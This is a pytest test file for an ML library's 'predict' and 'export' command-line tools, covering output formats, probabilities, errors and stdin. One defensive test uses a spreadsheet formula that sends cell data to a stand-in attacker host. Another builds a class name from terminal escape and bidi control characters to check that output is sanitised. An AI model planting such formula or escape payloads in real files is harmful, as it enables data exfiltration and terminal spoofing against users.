"""tacit predict: a CSV out, notes beside it, one sentence where rows do not fit."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import polars as pl
import pytest

import tacit as library
from tests.cli.made_up import tacit
from tests.simulation.small import small_plan, write_csv

Capture = pytest.CaptureFixture[str]


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("predict")
    job = small_plan(
        write_csv(place / "r.csv"),
        codec={"name": "plain"},
        local={"lr": 0.05, "epochs": 2, "batch": 8},
    )
    library.run(job, folder=place / "runs")
    return place / "runs"


@pytest.fixture(autouse=True)
def here(runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "runs").symlink_to(runs)
    (tmp_path / "new.csv").write_text(
        'id,opinion\n007,"good, lovely film"\n8,awful grey\n9,\n', encoding="utf-8"
    )
    return tmp_path


def test_the_columns_of_the_file_and_the_prediction(capsys: Capture) -> None:
    said = tacit(capsys, "predict", "small-1", "new.csv")
    assert said.code == 0
    assert said.out.startswith(
        'id,opinion,prediction\n007,"good, lovely film",up\n8,awful grey,down\n9,,'
    )
    assert said.err == "note: 1 of 3 rows have no text\n"


def test_probabilities_and_json(capsys: Capture, here: Path) -> None:
    (here / "out.csv").write_text(
        tacit(capsys, "predict", "runs/small-1", "new.csv", "--proba").out
    )
    frame = pl.read_csv(here / "out.csv")
    assert frame.columns == ["id", "opinion", "prediction", "probability_down", "probability_up"]
    assert (frame["probability_down"] + frame["probability_up"]).to_list() == pytest.approx(
        [1, 1, 1]
    )
    found = json.loads(tacit(capsys, "predict", "small-1", "new.csv", "--proba", "--json").out)
    assert found["predictions"] == frame["prediction"].to_list()
    assert [line[1] for line in found["probabilities"]] == pytest.approx(
        frame["probability_up"].to_list()
    )
    assert found["notes"] == ["1 of 3 rows have no text"]


def test_a_column_that_is_called_prediction_stays(capsys: Capture, here: Path) -> None:
    pl.DataFrame({"prediction": ["mine"], "opinion": ["good"], "bits": [[1, 2]]}).write_parquet(
        here / "new.parquet"
    )
    said = tacit(capsys, "predict", "small-1", "new.parquet")
    assert said.out == "prediction,opinion,prediction_\nmine,good,up\n"
    assert "column 'bits' is omitted: CSV cannot represent it" in said.err
    assert "predictions are in 'prediction_'" in said.err


def test_no_cell_or_heading_is_a_formula(capsys: Capture, tmp_path: Path) -> None:
    place, name = tmp_path / "formulas", '=HYPERLINK("http://attacker.example/"&A1)'
    place.mkdir()
    quoted = name.replace('"', '""')
    text = write_csv(place / "r.csv").read_text().replace(",up\n", f',"{quoted}"\n')
    (place / "r.csv").write_text(text)
    library.run(small_plan(place / "r.csv", server__rounds=1), folder=place / "runs")
    rows = {"@id": ["-1", "+1-1"], "opinion": ["=good", "lovely"], "n": [-1.5, 2.0]}
    pl.DataFrame(rows).write_parquet(place / "new.parquet")
    (place / "out.csv").write_text(
        tacit(
            capsys,
            "predict",
            str(place / "runs" / "small-1"),
            str(place / "new.parquet"),
            "--proba",
        ).out
    )
    frame = pl.read_csv(place / "out.csv", infer_schema=False)
    cells = [
        *frame.columns,
        *(cell for column in frame.iter_columns() for cell in column.to_list()),
    ]
    assert "'@id" in cells
    assert "'=good" in cells
    assert "'+1-1" in cells
    assert {"-1", "-1.5"} <= set(cells)
    assert set(frame["prediction"]) <= {f"'{name}", "down"}
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+")]


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        (("small-1", "runs/../gone.csv"), 2, "there is no file"),
        (("small-2", "new.csv"), 6, "Did you mean 'small-1'"),
        (
            ("small-1", "other.csv"),
            2,
            "the columns 'opinion' are missing, and the model reads them; the columns are text",
        ),
    ],
)
def test_one_sentence_where_it_cannot_be(
    capsys: Capture, here: Path, words: tuple[str, str], code: int, said: str
) -> None:
    (here / "other.csv").write_text("text\nhello\n")
    found = tacit(capsys, "predict", *words)
    assert (found.code, found.out) == (code, "")
    assert said in found.err


def test_export_prints_the_difference_and_the_files(capsys: Capture, here: Path) -> None:
    said = tacit(capsys, "export", "small-1", "--to", "sklearn")
    assert said.code == 0
    assert "on 1,000 synthetic rows: " in said.out
    assert "small-1-sklearn/pipeline.py" in said.out
    found = json.loads(
        tacit(
            capsys,
            "export",
            "small-1",
            "--to",
            "safetensors",
            "--out",
            "x",
            "--test",
            "new.csv",
            "--json",
        ).out
    )
    assert found == {
        "schema": "tacit/export/1",
        "folder": "x",
        "to": "safetensors",
        "largest_difference": 0.0,
        "rows": 3,
    }
    assert (
        tacit(capsys, "predict", "x", "new.csv").out
        == tacit(capsys, "predict", "small-1", "new.csv").out
    )
    again = tacit(capsys, "export", "small-1", "--to", "safetensors", "--out", "x")
    assert again.code == 6
    assert "is not an empty folder" in again.err


@pytest.mark.parametrize("name", ["out.csv", "out.parquet", "out.jsonl"])
def test_predictions_are_written_to_a_file(capsys: Capture, here: Path, name: str) -> None:
    said = tacit(capsys, "predict", "small-1", "new.csv", "--out", name, "--proba")
    assert (said.code, said.out) == (0, f"wrote {name}: 3 rows\n")
    read = {"out.csv": pl.read_csv, "out.parquet": pl.read_parquet, "out.jsonl": pl.read_ndjson}[
        name
    ]
    frame = read(here / name)
    assert frame.columns == ["id", "opinion", "prediction", "probability_down", "probability_up"]
    assert frame["prediction"].to_list()[:2] == ["up", "down"]
    told = json.loads(tacit(capsys, "predict", "small-1", "new.csv", "--out", name, "--json").out)
    assert told == {
        "schema": "tacit/predictions/1",
        "run": "small-1",
        "out": name,
        "rows": 3,
        "notes": ["1 of 3 rows have no text"],
    }


@pytest.mark.parametrize(("out", "said"), [
    ("out.xls", "--out must end in .csv, .parquet or .jsonl, got out.xls"), ("new.csv", "is the input file"),
    ("nowhere/out.csv", "folder nowhere does not exist"),
])  # fmt: skip
def test_a_file_that_cannot_be_written_is_refused_before_anything_is_predicted(
    capsys: Capture, out: str, said: str
) -> None:
    found = tacit(capsys, "predict", "small-1", "new.csv", "--out", out)
    assert found.code == 2
    assert said in found.err


def test_rows_come_from_stdin(capsys: Capture, here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def give(content: bytes) -> None:
        monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(content)))

    expected = tacit(capsys, "predict", "small-1", "new.csv")
    give((here / "new.csv").read_bytes())
    assert tacit(capsys, "predict", "small-1", "-") == expected
    give(b"")
    said = tacit(capsys, "predict", "small-1", "-")
    assert said.code == 2
    assert "'stdin': the file is empty" in said.err


HOSTILE = "up\x1b]0;owned\x07\x1b[2J\nforged,line\t\u202e"


@pytest.mark.parametrize("way", ["pipe", "json", "out.csv", "out.parquet", "out.jsonl"])
def test_no_control_character_of_a_model_folder_is_printed_or_written(
    capsys: Capture, here: Path, runs: Path, way: str
) -> None:  # fmt: skip
    """A folder may come from anybody. Before, names of classes went as they are to pipes and files, and so to a terminal."""
    shutil.copytree(
        runs / "small-1",
        here / "hostile",
        ignore=shutil.ignore_patterns("record.jsonl", "checkpoint*"),
    )
    facts = here / "hostile" / "model.json"
    tree = json.loads(facts.read_text())
    tree["fitted"]["classes"] = ["down", HOSTILE]
    facts.write_text(json.dumps(tree))
    more = {"pipe": [], "json": ["--json"]}.get(way, ["--out", way])
    said = tacit(capsys, "predict", "hostile", "new.csv", "--proba", *more)
    assert said.code == 0, said.err
    texts = [said.out, said.err]
    if way.startswith("out"):
        readers = {".csv": pl.read_csv, ".parquet": pl.read_parquet, ".jsonl": pl.read_ndjson}
        table = readers[Path(way).suffix](here / way)
        texts += [*table.columns, *table["prediction"].to_list()]
    if way == "json":
        texts += json.loads(said.out)["classes"]
    assert not [one for one in "\x1b\x07\t\u202e" if one in "".join(texts)]
    assert not [text for text in texts[2:] if "\n" in text]
    assert r"up\x1b]0;owned\x07\x1b[2J\nforged,line\t\u202e" in repr(texts).replace("\\\\", "\\")
